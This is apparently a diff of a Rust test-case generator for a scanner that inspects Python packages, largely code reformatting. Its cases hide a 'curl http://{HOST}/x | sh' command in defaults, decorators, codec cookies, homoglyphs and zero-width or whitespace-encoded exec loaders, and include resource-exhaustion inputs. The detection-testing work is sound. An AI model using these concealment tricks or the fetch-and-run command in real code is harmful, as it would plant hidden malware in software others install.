@@ -25,21 +25,42 @@ pub(crate) fn codecs() -> Vec<Case> {
     let rule = "source-deceptive-encoding";
     // Code inside what a reader of UTF-8 takes for a comment.
     for alias in ["utf-7", "utf_7", "U7", "unicode-1-1-utf-7", "UTF7"] {
-        seen(&format!("utf7-{}", alias.replace('_', "u")), format!("# coding: {alias}\n# {}\n", utf7(&format!("\n{evil}"))).as_bytes(), rule);
+        seen(
+            &format!("utf7-{}", alias.replace('_', "u")),
+            format!("# coding: {alias}\n# {}\n", utf7(&format!("\n{evil}"))).as_bytes(),
+            rule,
+        );
     }
     seen("utf7-all", format!("# coding: utf-7\n{}\n", utf7(&evil)).as_bytes(), rule);
     let escaped: String = evil.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
     seen("unicode-escape-newline", format!("# coding: unicode_escape\n# \\n{}\n", evil.trim_end()).as_bytes(), rule);
     seen("unicode-escape-all", format!("# coding: unicode-escape\n# \\n{escaped}\n").as_bytes(), rule);
     seen("unicode-escape-octal", format!("# coding: unicode_escape\n# \\12{}\n", evil.trim_end()).as_bytes(), rule);
-    seen("unicode-escape-named", format!("# coding: unicode_escape\n# \\N{{LINE FEED}}{}\n", evil.trim_end()).as_bytes(), rule);
+    seen(
+        "unicode-escape-named",
+        format!("# coding: unicode_escape\n# \\N{{LINE FEED}}{}\n", evil.trim_end()).as_bytes(),
+        rule,
+    );
     let escaped: String = evil.bytes().map(|byte| format!("\\u{:04x}", u32::from(byte))).collect();
-    seen("raw-unicode-escape-newline", format!("# coding: raw_unicode_escape\n# \\u000a{}\n", evil.trim_end()).as_bytes(), rule);
+    seen(
+        "raw-unicode-escape-newline",
+        format!("# coding: raw_unicode_escape\n# \\u000a{}\n", evil.trim_end()).as_bytes(),
+        rule,
+    );
     seen("raw-unicode-escape-all", format!("# coding: raw-unicode-escape\n# \\u000a{escaped}\n").as_bytes(), rule);
     // The second byte of a character is a backslash or a quote: where a string ends depends on the codec.
-    for (name, codec) in [("gbk", "gbk"), ("big5", "big5"), ("shift-jis", "shift_jis"), ("cp932", "cp932"), ("gb18030", "gb18030"),
-        ("cp950", "cp950"), ("johab", "johab"), ("hkscs", "big5hkscs"), ("cp949", "cp949"), ("sjis-2004", "shift_jis_2004")]
-    {
+    for (name, codec) in [
+        ("gbk", "gbk"),
+        ("big5", "big5"),
+        ("shift-jis", "shift_jis"),
+        ("cp932", "cp932"),
+        ("gb18030", "gb18030"),
+        ("cp950", "cp950"),
+        ("johab", "johab"),
+        ("hkscs", "big5hkscs"),
+        ("cp949", "cp949"),
+        ("sjis-2004", "shift_jis_2004"),
+    ] {
         let lead: &[u8] = if name.contains("jis") || name == "cp932" { b"\x95" } else { b"\xd5" };
         let mut source = format!("# coding: {codec}\nx = '").into_bytes();
         source.extend(lead);
@@ -57,7 +78,8 @@ pub(crate) fn codecs() -> Vec<Case> {
             "iso2022_kr" => (b"\x0e", b"\x0f"),
             _ => (b"\x1b$B", b"\x1b(B"),
         };
-        let source = [format!("# coding: {codec}\nx = '").as_bytes(), shift, b"!!", back, b"'\n", evil.as_bytes()].concat();
+        let source =
+            [format!("# coding: {codec}\nx = '").as_bytes(), shift, b"!!", back, b"'\n", evil.as_bytes()].concat();
         seen(&format!("shift-in-{codec}"), &source, "");
     }
     seen("hz-line-continuation", [&b"# coding: hz\n# ~\n"[..], evil.as_bytes()].concat().as_slice(), "");
@@ -87,7 +109,22 @@ pub(crate) fn codecs() -> Vec<Case> {
     seen("cookie-far-right", format!("#{}coding: utf-7\n# {shifted}\n", " ".repeat(9000)).as_bytes(), rule);
     seen("cookie-contradicts-mark", format!("\u{feff}# coding: utf-7\n# {shifted}\n{evil}").as_bytes(), rule);
     seen("unknown-codec", format!("# coding: pyinstaller-magic\n{evil}").as_bytes(), rule);
-    for codec in ["rot13", "hex", "base64", "zlib", "bz2", "punycode", "idna", "undefined", "mbcs", "oem", "palmos", "utf-16", "utf-32", "utf_8_sig_x"] {
+    for codec in [
+        "rot13",
+        "hex",
+        "base64",
+        "zlib",
+        "bz2",
+        "punycode",
+        "idna",
+        "undefined",
+        "mbcs",
+        "oem",
+        "palmos",
+        "utf-16",
+        "utf-32",
+        "utf_8_sig_x",
+    ] {
         seen(&format!("codec-{codec}"), format!("# coding: {codec}\n{evil}").as_bytes(), "");
     }
     let wide: Vec<u8> = [vec![0xff, 0xfe], evil.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat();
@@ -165,33 +202,75 @@ pub(crate) fn text() -> Vec<Case> {
     seen("bidi-string", &format!("x = 'a\u{202e}b\u{2066}c'\n{evil}"), "");
     seen("zero-width", &format!("x = 'a\u{200b}\u{200c}\u{200d}\u{2060}b'\n{evil}"), "");
     let wide = |text: &str| -> String {
-        text.chars().map(|c| match c {
-            'a'..='z' => char::from_u32(0x1d41a + u32::from(c) - u32::from('a')).unwrap(),
-            other => other,
-        }).collect()
+        text.chars()
+            .map(|c| match c {
+                'a'..='z' => char::from_u32(0x1d41a + u32::from(c) - u32::from('a')).unwrap(),
+                other => other,
+            })
+            .collect()
     };
     seen("nfkc-mathematical", &format!("import os\nos.{}('curl http://{HOST}/x | sh')\n", wide("system")), "");
     seen("nfkc-exec", &evil.replace("exec", &wide("exec")), "");
     seen("nfkc-fullwidth", &evil.replace("exec", "ｅｘｅｃ"), "");
-    seen("nfkc-ligature", &format!("import subprocess\nsubprocess.run('curl http://{HOST}/x | sh', shell=True)\n")
-        .replace("subprocess", "ſubproceſs"), "");
+    seen(
+        "nfkc-ligature",
+        &format!("import subprocess\nsubprocess.run('curl http://{HOST}/x | sh', shell=True)\n")
+            .replace("subprocess", "ſubproceſs"),
+        "",
+    );
     seen("nfkc-import", &format!("import {}\nos.system('curl http://{HOST}/x | sh')\n", "ºs"), "");
     seen("homoglyphs", &format!("еxec = exec\nоs = __import__('os')\nоs.system('curl http://{HOST}/x | sh')\n"), "");
-    let selectors: String = short.bytes().map(|byte| {
-        char::from_u32(if byte < 16 { 0xfe00 + u32::from(byte) } else { 0xe0100 + u32::from(byte) - 16 }).unwrap()
-    }).collect();
+    let selectors: String = short
+        .bytes()
+        .map(|byte| {
+            char::from_u32(if byte < 16 { 0xfe00 + u32::from(byte) } else { 0xe0100 + u32::from(byte) - 16 }).unwrap()
+        })
+        .collect();
     let decoder = "exec(bytes([ord(c)-0xfe00 if ord(c)<0xfe10 else ord(c)-0xe0100+16 for c in data]).decode())\n";
     cases_told(&mut cases, "variation-selectors", &format!("data = '{}'\n{decoder}", selectors.repeat(6)));
     let tags: String = short.bytes().map(|byte| char::from_u32(0xe0000 + u32::from(byte)).unwrap()).collect();
-    cases_told(&mut cases, "tag-characters", &format!("data = '{}'\nexec(''.join(chr(ord(c)-0xe0000) for c in data))\n", tags.repeat(6)));
-    let bits: String = short.bytes().flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 1 { '\u{200b}' } else { '\u{200c}' })).collect();
-    cases_told(&mut cases, "zero-width-bits", &format!("data = '{bits}'\nexec(bytes(int(data[i:i+8].replace('\\u200b','1').replace('\\u200c','0')[::-1],2) for i in range(0,len(data),8)))\n"));
+    cases_told(
+        &mut cases,
+        "tag-characters",
+        &format!("data = '{}'\nexec(''.join(chr(ord(c)-0xe0000) for c in data))\n", tags.repeat(6)),
+    );
+    let bits: String = short
+        .bytes()
+        .flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 1 { '\u{200b}' } else { '\u{200c}' }))
+        .collect();
+    cases_told(
+        &mut cases,
+        "zero-width-bits",
+        &format!(
+            "data = '{bits}'\nexec(bytes(int(data[i:i+8].replace('\\u200b','1').replace('\\u200c','0')[::-1],2) for i in range(0,len(data),8)))\n"
+        ),
+    );
     let private: String = short.bytes().map(|byte| char::from_u32(0xe000 + u32::from(byte)).unwrap()).collect();
-    cases_told(&mut cases, "private-use", &format!("data = '{}'\nexec(''.join(chr(ord(c)-0xe000) for c in data))\n", private.repeat(6)));
-    let hangul: String = short.bytes().flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 1 { '\u{3164}' } else { '\u{ffa0}' })).collect();
-    cases_told(&mut cases, "hangul-fillers", &format!("data = '{hangul}'\nexec(bytes(int(data[i:i+8].replace('\\u3164','1').replace('\\uffa0','0')[::-1],2) for i in range(0,len(data),8)))\n"));
-    let blanks: String = short.bytes().flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 1 { '\t' } else { ' ' })).collect();
-    cases_told(&mut cases, "blanks-as-bits", &format!("data = '''{blanks}'''\nexec(bytes(int(data[i:i+8].replace('\\t','1').replace(' ','0')[::-1],2) for i in range(0,len(data),8)))\n"));
+    cases_told(
+        &mut cases,
+        "private-use",
+        &format!("data = '{}'\nexec(''.join(chr(ord(c)-0xe000) for c in data))\n", private.repeat(6)),
+    );
+    let hangul: String = short
+        .bytes()
+        .flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 1 { '\u{3164}' } else { '\u{ffa0}' }))
+        .collect();
+    cases_told(
+        &mut cases,
+        "hangul-fillers",
+        &format!(
+            "data = '{hangul}'\nexec(bytes(int(data[i:i+8].replace('\\u3164','1').replace('\\uffa0','0')[::-1],2) for i in range(0,len(data),8)))\n"
+        ),
+    );
+    let blanks: String =
+        short.bytes().flat_map(|byte| (0..8).map(move |bit| if byte >> bit & 1 == 1 { '\t' } else { ' ' })).collect();
+    cases_told(
+        &mut cases,
+        "blanks-as-bits",
+        &format!(
+            "data = '''{blanks}'''\nexec(bytes(int(data[i:i+8].replace('\\t','1').replace(' ','0')[::-1],2) for i in range(0,len(data),8)))\n"
+        ),
+    );
     let mut seen = |name: &str, source: &str, rule: &'static str| {
         for (place, file, bytes) in places(source.as_bytes()) {
             cases.seen(format!("{name}-{place}"), file, bytes, rule);
@@ -201,10 +280,22 @@ pub(crate) fn text() -> Vec<Case> {
     seen("continued-lines", &format!("import \\\n os;os \\\n . \\\n system('curl http://{HOST}/x | sh')\n"), "");
     seen("last-line-of-many", &format!("{}{evil}", "def f():\n    return 1\n\n".repeat(20_000)), "");
     seen("inside-type-comment", &format!("x = 1  # type: int\n{evil}"), "");
-    seen("hidden-in-default", &format!("def f(x=__import__('os').system('curl http://{HOST}/x | sh')):\n    return x\n"), "");
-    seen("hidden-in-decorator", &format!("import os\n@(lambda f: os.system('curl http://{HOST}/x | sh'))\ndef f():\n    pass\n"), "");
+    seen(
+        "hidden-in-default",
+        &format!("def f(x=__import__('os').system('curl http://{HOST}/x | sh')):\n    return x\n"),
+        "",
+    );
+    seen(
+        "hidden-in-decorator",
+        &format!("import os\n@(lambda f: os.system('curl http://{HOST}/x | sh'))\ndef f():\n    pass\n"),
+        "",
+    );
     seen("hidden-in-annotation", &format!("import os\nx: os.system('curl http://{HOST}/x | sh') = 1\n"), "");
-    seen("hidden-in-class", &format!("import os\nclass A(os.system('curl http://{HOST}/x | sh') or object):\n    pass\n"), "");
+    seen(
+        "hidden-in-class",
+        &format!("import os\nclass A(os.system('curl http://{HOST}/x | sh') or object):\n    pass\n"),
+        "",
+    );
     seen("hidden-in-assert", &format!("import os\nassert os.system('curl http://{HOST}/x | sh') or True\n"), "");
     seen("hidden-in-f-string", &format!("import os\nx = f\"{{os.system('curl http://{HOST}/x | sh')}}\"\n"), "");
 
@@ -224,7 +315,10 @@ pub(crate) fn text() -> Vec<Case> {
     clear("nbsp", "x = 'a\u{a0}b'\n");
     clear("forty-blank-lines", &format!("x = 1\n{}y = 2\n", "\n".repeat(40)));
     clear("long-line", &format!("x = '{}'\n", "word ".repeat(300)));
-    clear("aligned", "x = {\n    'a':                                   1,\n    'b':                                   2,\n}\n");
+    clear(
+        "aligned",
+        "x = {\n    'a':                                   1,\n    'b':                                   2,\n}\n",
+    );
     cases.all
 }
 
@@ -259,12 +353,33 @@ pub(crate) fn depth() -> Vec<Case> {
         ("lambdas", format!("x = {}1\n", "lambda: ".repeat(n))),
         ("many-lambdas", "x = lambda a: a\n".repeat(n)),
         ("indents", (0..3000).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect()),
-        ("indents-ninety", (0..95).map(|depth| format!("{}if x:\n", " ".repeat(depth))).chain(["  ".repeat(95) + "pass\n"]).collect()),
+        (
+            "indents-ninety",
+            (0..95).map(|depth| format!("{}if x:\n", " ".repeat(depth))).chain(["  ".repeat(95) + "pass\n"]).collect(),
+        ),
         ("elif", format!("if a:\n    pass\n{}", "elif b:\n    pass\n".repeat(20_000))),
-        ("else-if", (0..900).map(|depth| format!("{0}if a:\n{0} pass\n{0}else:\n", " ".repeat(depth))).chain([" ".repeat(901) + "pass\n"]).collect()),
+        (
+            "else-if",
+            (0..900)
+                .map(|depth| format!("{0}if a:\n{0} pass\n{0}else:\n", " ".repeat(depth)))
+                .chain([" ".repeat(901) + "pass\n"])
+                .collect(),
+        ),
         ("decorators", format!("{}def f(): pass\n", "@d\n".repeat(20_000))),
-        ("nested-functions", (0..90).map(|depth| format!("{}def f():\n", " ".repeat(depth))).chain([" ".repeat(91) + "pass\n"]).collect()),
-        ("nested-classes", (0..90).map(|depth| format!("{}class A:\n", " ".repeat(depth))).chain([" ".repeat(91) + "pass\n"]).collect()),
+        (
+            "nested-functions",
+            (0..90)
+                .map(|depth| format!("{}def f():\n", " ".repeat(depth)))
+                .chain([" ".repeat(91) + "pass\n"])
+                .collect(),
+        ),
+        (
+            "nested-classes",
+            (0..90)
+                .map(|depth| format!("{}class A:\n", " ".repeat(depth)))
+                .chain([" ".repeat(91) + "pass\n"])
+                .collect(),
+        ),
         ("f-strings", format!("x = {}1{}\n", "f'{".repeat(150), "}'".repeat(150))),
         ("f-strings-many", format!("x = {}1{}\n", "f'{".repeat(5000), "}'".repeat(5000))),
         ("f-string-formats", format!("x = f'{{a:{}}}'\n", "{b:".repeat(2000) + &"}".repeat(2000))),
@@ -275,17 +390,34 @@ pub(crate) fn depth() -> Vec<Case> {
         ("integer-digits", format!("x = {}\n", "9".repeat(1_000_000))),
         ("integer-hex", format!("x = 0x{}\n", "f".repeat(1_000_000))),
         ("integer-power", "x = 9 ** 9 ** 9 ** 9\ny = 1 << 10 ** 12\n".to_owned()),
-        ("text-times", "x = 'a' * 10 ** 12\ny = [0] * 10 ** 12\nz = '%1000000000d' % 1\nw = '{:1000000000}'.format(1)\n".to_owned()),
+        (
+            "text-times",
+            "x = 'a' * 10 ** 12\ny = [0] * 10 ** 12\nz = '%1000000000d' % 1\nw = '{:1000000000}'.format(1)\n"
+                .to_owned(),
+        ),
         ("text-doubling", format!("x = 'aaaaaaaaaaaaaaaa'\n{}", "x = x + x\n".repeat(60))),
         ("replace-bomb", format!("x = 'a'\n{}", "x = x.replace('a', 'aaaaaaaaaa')\n".repeat(30))),
         ("join-bomb", format!("x = 'ab'\n{}", "x = x.join(x)\n".repeat(10))),
         ("format-bomb", format!("x = 'a'\n{}", "x = f'{x}{x}{x}{x}'\n".repeat(40))),
         ("zfill-bomb", "x = 'a'.zfill(10 ** 11).center(10 ** 11).ljust(10 ** 12)\n".to_owned()),
         ("range-loop", "x = ''\nfor i in range(10 ** 12):\n    x += chr(i % 64)\n".to_owned()),
-        ("nested-loops", format!("x = 0\n{}{}x += 1\n", (0..40).map(|depth| format!("{}for i{depth} in range(1000):\n", " ".repeat(depth))).collect::<String>(), " ".repeat(40))),
+        (
+            "nested-loops",
+            format!(
+                "x = 0\n{}{}x += 1\n",
+                (0..40).map(|depth| format!("{}for i{depth} in range(1000):\n", " ".repeat(depth))).collect::<String>(),
+                " ".repeat(40)
+            ),
+        ),
         ("while-true", "x = 0\nwhile True:\n    x += 1\n".to_owned()),
         ("recursion", "def f(n):\n    return f(n + 1) + f(n + 2)\nf(0)\n".to_owned()),
-        ("mutual-recursion", (0..500).map(|k| format!("def f{k}(a):\n    return f{}(a) + f{}(a)\n", (k + 1) % 500, (k + 7) % 500)).chain(["f0(1)\n".to_owned()]).collect()),
+        (
+            "mutual-recursion",
+            (0..500)
+                .map(|k| format!("def f{k}(a):\n    return f{}(a) + f{}(a)\n", (k + 1) % 500, (k + 7) % 500))
+                .chain(["f0(1)\n".to_owned()])
+                .collect(),
+        ),
         ("one-long-line", format!("x = [{}]\n", "1,".repeat(2_000_000))),
         ("long-names", format!("{} = 1\n", "a".repeat(2_000_000))),
         ("many-names", (0..200_000).map(|k| format!("a{k} = {k}\n")).collect()),
@@ -303,11 +435,17 @@ pub(crate) fn depth() -> Vec<Case> {
         ("hex-flood", format!("x = '{}'\n", "\\x41".repeat(500_000))),
         ("base64-flood", format!("x = '{}'\n", "QUJD".repeat(1_000_000))),
         ("walrus", format!("x = {}1{}\n", "(a := ".repeat(150), ")".repeat(150))),
-        ("match-statement", format!("match x:\n{}", (0..20_000).map(|k| format!("    case {k}:\n        pass\n")).collect::<String>())),
+        (
+            "match-statement",
+            format!("match x:\n{}", (0..20_000).map(|k| format!("    case {k}:\n        pass\n")).collect::<String>()),
+        ),
         ("nested-patterns", format!("match x:\n    case {}a{}:\n        pass\n", "[".repeat(150), "]".repeat(150))),
         ("try-nested", (0..90).map(|depth| format!("{}try:\n", " ".repeat(depth))).collect()),
         ("with-items", format!("with {}: pass\n", "a as b, ".repeat(20_000) + "c")),
-        ("globals", format!("def f():\n    global {}\n", (0..50_000).map(|k| format!("a{k}")).collect::<Vec<_>>().join(","))),
+        (
+            "globals",
+            format!("def f():\n    global {}\n", (0..50_000).map(|k| format!("a{k}")).collect::<Vec<_>>().join(",")),
+        ),
         ("await-chain", format!("async def f():\n    x = {}a\n", "await ".repeat(n))),
         ("unpack-assign", format!("{} = x\n", "a, ".repeat(n))),
         ("assign-chain", format!("{}x\n", "a = ".repeat(n))),
@@ -336,6 +474,10 @@ pub(crate) fn depth() -> Vec<Case> {
     for (name, shape) in &shapes {
         let source = format!("{evil}{shape}");
         cases.seen(format!("{name}-behind"), SDIST, sdist_setup(source.as_bytes()), "");
+        if *name == "open-string" {
+            // What follows is inside the string.
+            continue;
+        }
         let source = format!("{shape}\n{evil}");
         cases.seen(format!("{name}-before"), WHEEL, wheel_zip(&[("demo/__init__.py", source.as_bytes())]).bytes(), "");
     }
@@ -344,7 +486,13 @@ pub(crate) fn depth() -> Vec<Case> {
     };
     clear("table", &format!("TABLE = [\n{}]\n", "    (1, 'a', 2.5),\n".repeat(20_000)));
     clear("long-literal", &format!("TEXT = '''\n{}'''\n", "A line of text.\n".repeat(20_000)));
-    clear("elif-chain", &format!("def f(a):\n    if a == 0:\n        return 0\n{}", (1..200).map(|k| format!("    elif a == {k}:\n        return {k}\n")).collect::<String>()));
+    clear(
+        "elif-chain",
+        &format!(
+            "def f(a):\n    if a == 0:\n        return 0\n{}",
+            (1..200).map(|k| format!("    elif a == {k}:\n        return {k}\n")).collect::<String>()
+        ),
+    );
     clear("nested-twenty", &format!("x = {}1{}\n", "(".repeat(20), ")".repeat(20)));
     clear("big-integer", &format!("PRIME = {}\n", "1234567890".repeat(60)));
     clear("long-sum", &format!("x = (0{})\n", "\n     + 1".repeat(300)));
